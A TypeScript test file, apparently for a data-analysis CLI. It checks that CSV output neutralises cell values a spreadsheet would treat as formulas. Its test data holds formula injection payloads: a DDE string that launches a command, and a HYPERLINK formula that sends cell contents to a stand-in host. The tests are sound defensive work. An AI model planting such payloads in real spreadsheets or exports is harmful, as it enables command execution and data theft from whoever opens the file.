import { readFileSync } from "node:fs";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import type { Completed } from "../../../src/analysis/run/run-analysis.ts";
import { scoreLines } from "../../../src/cli/results/results-csv.ts";
import { readCsv } from "../../../src/workbook/file/text/csv.ts";
import { qianyan, resultsOf, Scratch } from "../command.ts";

const scratch = new Scratch();
const quoted = (text: string) => `"${text.replaceAll('"', '""')}"`;

describe("results.csv of names that a spreadsheet would take for formulas", () => {
  const dmus = ["=cmd|' /C calc'!A0", "+1+1", "-甲", "@乙", "＝1", "丙"];
  const [dmu, input] = ['=HYPERLINK("http://example.org/"&A1,"x")', "=cmd|' /C calc'!A0"];
  const rows = ["-1", "0"].flatMap((period, t) => dmus.map((name, k) => [quoted(name), period, "@SUM(1)", k + 1, (k % 3) + 1 + t].join(",")));
  const file = scratch.file("names.csv", `${[dmu, "period", "-group", input, "+y"].map(quoted).join(",")}\n${rows.join("\n")}\n`);
  const columns = ["--dmu", dmu, "--period", "period", "--group", "-group", "--inputs", input, "--outputs", "+y", "--model", "radial"];

  it.each(["en", "zh-CN"])("in %s: no cell of either file begins as a formula does, and numbers stand bare", async (lang) => {
    const out = scratch.path("o.csv");
    expect((await qianyan(["run", file, ...columns, "--index", "gm", "--out", out, "--lang", lang])).code).toBe(0);
    for (const name of ["o.csv", "o.index.csv"]) {
      const text = readFileSync(scratch.path(name), "utf8").slice(1);
      const cells = text.match(/("(?:[^"]|"")*"|[^,\r\n]*)(?=,|\r\n)/g)!.map((cell) => (cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell));
      for (const cell of cells.flatMap((one) => one.split(";"))) if (/^\s*[=+\-@＝＋－＠\t\r]/.test(cell)) expect(cell).toMatch(/^-?\d+(\.\d+)?(e[+-]?\d+)?$/);
      expect(cells).toContain(`'${dmu}`);
      expect(cells).toContain("'-甲");
      expect(cells).toContain("-1");
    }
  });

  it("is read again with the names as they were", async () => {
    const before = await resultsOf("run", file, ...columns);
    await qianyan(["run", file, ...columns, "--out", scratch.path("o.csv"), "--lang", "en"]);
    const again = await resultsOf(
      ...["run", scratch.path("o.csv"), "--dmu", dmu, "--period", "period", "--group", "-group", "--model", "radial"],
      "--inputs",
      "score",
      "--outputs",
      `target: +y`,
    );
    expect(again.scores.map((row) => [row.dmu, row.period, row.group])).toEqual(before.scores.map((row) => [row.dmu, row.period, row.group]));
  });
});

describe("the names in results.csv", () => {
  const names = fc
    .tuple(fc.constantFrom("", "=", "+", "-", "@", "'", "＝", '"'), fc.string({ unit: "binary", minLength: 1, maxLength: 10 }))
    .map(([first, rest]) => (first + rest).replaceAll(/[\0\r]|[\ud800-\udfff]/gu, "").trim() || "x");

  it("come back as they were, whatever they are", () => {
    fc.assert(
      fc.property(fc.uniqueArray(names, { minLength: 1, maxLength: 5 }), names, (dmus, header) => {
        const data = { dmus, inputs: [], outputs: [], undesirables: [], unscored: [] };
        const score = (dmu: string) => ({
          dmu,
          period: null,
          group: null,
          score: -0.5,
          status: "inefficient",
          slacks: null,
          targets: null,
          peers: [{ dmu, period: null, lambda: Infinity }],
        });
        const completed = { data, analysis: { index: null, columns: { dmu: header, period: null, group: null } }, results: { scores: dmus.map(score) } };
        const text = new TextDecoder("utf-8", { ignoreBOM: true }).decode(Buffer.concat([...scoreLines(completed as unknown as Completed, "en")]));
        const [first, ...rows] = readCsv(new TextEncoder().encode(text));
        expect(first[0]).toBe(header);
        expect(rows.map((row) => row.slice(0, 2))).toEqual(dmus.map((dmu) => [dmu, "-0.5"]));
        expect(text).not.toContain("Infinity");
      }),
    );
  });
});
